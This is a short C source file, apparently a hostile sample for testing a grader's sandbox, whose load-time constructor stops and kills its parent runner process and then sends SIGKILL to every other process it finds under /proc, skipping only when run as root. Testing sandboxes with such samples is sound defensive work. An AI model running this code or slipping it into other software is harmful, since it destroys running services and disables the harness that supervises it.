/* The trick: stop, then kill, every other process it can see (the
 * runner first), at start. Only ever run through the grader's sandbox. */
#include <dirent.h>
#include <signal.h>
#include <stdlib.h>
#include <unistd.h>

__attribute__((constructor)) static void stop_them(void)
{
	DIR *d = opendir("/proc");
	struct dirent *e;

	/* Hostile: never as root, where kill() would reach everything. */
	if (getuid() == 0 || geteuid() == 0)
		_exit(99);
	kill(getppid(), SIGSTOP);
	kill(getppid(), SIGKILL);
	while (d && (e = readdir(d))) {
		int pid = atoi(e->d_name);
		if (pid > 1 && pid != getpid())
			kill(pid, SIGKILL);
	}
	if (d)
		closedir(d);
}
